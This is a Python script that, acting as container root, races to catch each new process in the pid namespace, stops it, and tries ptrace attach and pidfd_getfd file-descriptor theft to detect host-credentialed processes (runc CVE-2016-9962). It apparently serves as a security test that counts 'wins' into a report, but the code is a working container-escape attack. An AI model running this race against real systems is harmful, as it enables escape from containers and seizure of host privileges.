#!/usr/bin/python3
# Plays container root against the broker's stages (runc CVE-2016-9962):
# every new process that appears in this pid namespace is stopped at once
# and then attacked with ptrace and pidfd_getfd. A process that we can
# attach to while the container sees it as uid 65534 (overflow: a host uid
# such as 0, not mapped here) is a process holding host credentials: a win.
# Usage: ptrace_race.py <seconds> <report-file>
import ctypes, os, signal, sys, time

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SYS_pidfd_open, SYS_pidfd_getfd = 434, 438
libc.syscall.restype = ctypes.c_long

def uid_of(p):
    try:
        for line in open(f'/proc/{p}/status'):
            if line.startswith('Uid:'):
                return line.split()[1]
    except OSError:
        pass
    return '?'

end = time.time() + float(sys.argv[1])
seen = set(os.listdir('/proc'))
me = str(os.getpid())
caught = host_caught = attached = wins = getfd_wins = 0
while time.time() < end:
    for p in os.listdir('/proc'):
        if not p.isdigit() or p in seen or p == me:
            continue
        seen.add(p)
        pid = int(p)
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            continue
        caught += 1
        uid = uid_of(p)
        if uid == '65534':
            host_caught += 1
        if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            attached += 1
            if uid == '65534':
                wins += 1
            try:
                os.waitpid(pid, 0x40000000)
            except OSError:
                pass
            libc.ptrace(PTRACE_DETACH, pid, 0, 0)
        pfd = libc.syscall(SYS_pidfd_open, pid, 0)
        if pfd >= 0:
            for fd in range(3, 16):
                got = libc.syscall(SYS_pidfd_getfd, pfd, fd, 0)
                if got >= 0:
                    os.close(got)
                    if uid == '65534':
                        getfd_wins += 1
            os.close(pfd)
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    time.sleep(0.0005)
with open(sys.argv[2], 'w') as f:
    f.write(f'caught={caught} host_caught={host_caught} attached={attached} wins={wins} getfd_wins={getfd_wins}\n')
